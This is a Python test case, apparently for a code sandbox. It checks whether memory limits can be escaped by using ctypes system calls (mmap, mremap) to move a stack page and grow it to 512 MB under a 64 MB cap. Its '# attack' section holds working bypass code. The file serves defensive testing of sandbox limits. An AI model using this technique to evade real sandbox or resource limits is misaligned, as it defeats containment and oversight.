"""Moves a page of the stack elsewhere and lets it grow there: what grows down counts as a stack, not as data.

Escape: 512 MB in use with memory_mb=64, and the guest lives
Control: a page of plain memory can be moved and grows
Limits: memory_mb=64, wall_s=12
Expect: MemoryLimit | CodeError
"""

# control
import ctypes
import errno
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    """A system call by its number on either processor: the result, and the name of its error."""
    number = x86_64 if os.uname().machine == "x86_64" else aarch64
    words = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *words), errno.errorcode.get(ctypes.get_errno(), "")


PAGE, MOST, MAYMOVE = 4096, 512 << 20, 1
plain, _ = syscall(9, 222, 0, PAGE, 3, 0x22, -1, 0)
plain, _ = syscall(25, 216, plain, PAGE, 16 * PAGE, MAYMOVE, 0)
ctypes.memset(plain, 1, 16 * PAGE)
ctypes.string_at(plain + 15 * PAGE, 1) == b"\x01"

# attack
top = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value
page = (top - (2 << 20)) & -PAGE
ctypes.memset(page, 1, PAGE)  # the stack grows to here
moved, why = syscall(25, 216, page, PAGE, MOST, MAYMOVE, 0)
if moved < 0:
    raise MemoryError(why)
for start in range(0, MOST, 1 << 20):
    ctypes.memset(moved + start, 1, 1 << 20)
time.sleep(4)
f"ESCAPED: {MOST >> 20} MB of a stack that was moved"
